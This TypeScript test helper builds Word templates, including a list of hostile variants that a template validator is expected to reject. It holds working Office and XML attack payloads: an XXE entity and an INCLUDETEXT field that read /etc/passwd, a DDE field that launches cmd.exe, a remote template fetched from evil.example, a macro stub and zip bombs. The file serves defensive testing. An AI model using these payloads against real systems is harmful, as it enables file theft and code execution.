import type { TemplateKey } from '@sangkien/domain/document/template-key'
import PizZip from 'pizzip'
import { builtInTemplate } from '../src/template/try-template.ts'

/** A built-in template as somebody might send it back: words of its body exchanged, parts added. Throws where there is nothing to exchange. */
export async function editedTemplate(key: TemplateKey, { words = [], parts = {} }: { readonly words?: readonly (readonly [from: string, to: string])[]; readonly parts?: Readonly<Record<string, string | Uint8Array>> }): Promise<Uint8Array> {
  const zip = new PizZip(await builtInTemplate(key))
  let body = zip.file('word/document.xml')?.asText() ?? ''
  for (const [from, to] of words) {
    if (!body.includes(from)) throw new Error(`The template ${key} has no ${from}`)
    body = body.replaceAll(from, to)
  }
  zip.file('word/document.xml', body)
  for (const [name, content] of Object.entries(parts)) zip.file(name, content)
  return zip.generate({ type: 'uint8array', compression: 'DEFLATE' })
}

const relation = (type: string, target: string) =>
  `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`

/** Templates that do more than be filled, each with the code it is refused by. */
export const hostileTemplates: readonly (readonly [name: string, code: string, make: () => Promise<Uint8Array>])[] = [
  ['a zip bomb', 'template.too_large', () => editedTemplate('acceptance-notice', { parts: { 'word/bomb.xml': new Uint8Array(40 * 1024 * 1024) } })],
  ['a bomb past every bound', 'zip.too_large', () => editedTemplate('acceptance-notice', { parts: { 'word/media/bomb.png': new Uint8Array(120 * 1024 * 1024) } })],
  ['a macro', 'office.macros', () => editedTemplate('acceptance-notice', { parts: { 'word/vbaProject.bin': 'Sub AutoOpen()' } })],
  ['a template fetched from elsewhere', 'office.external_reference', () => editedTemplate('acceptance-notice', { parts: { 'word/_rels/settings.xml.rels': relation('attachedTemplate', 'http://evil.example/a.dotm') } })],
  ['a link to a file of the server', 'template.link', () => editedTemplate('acceptance-notice', { parts: { 'word/_rels/footnotes.xml.rels': relation('hyperlink', 'file:///etc/passwd') } })],
  ['an entity that reads a file (XXE)', 'template.entities', () => editedTemplate('acceptance-notice', { words: [['<w:document ', '<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]><w:document ']] })],
  ['an entity in a part nobody reads', 'template.entities', () => editedTemplate('acceptance-notice', { parts: { 'customXml/item1.xml': '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a "aaaa">]><a>&a;</a>' } })],
  ['a field that starts a program', 'template.field', () => editedTemplate('acceptance-notice', { words: [['</w:body>', '<w:p><w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\\\windows\\\\cmd.exe</w:instrText></w:r></w:p></w:body>']] })],
  ['a field that reads a file', 'template.field', () => editedTemplate('acceptance-notice', { words: [['</w:body>', '<w:p><w:fldSimple w:instr="INCLUDETEXT &quot;/etc/passwd&quot;"/></w:p></w:body>']] })],
  ['a document put in whole', 'template.embedded', () => editedTemplate('acceptance-notice', { words: [['</w:body>', '<w:altChunk/></w:body>']] })],
  ['a file that is no zip', 'zip.broken', async () => new TextEncoder().encode('{numberLine}')],
]
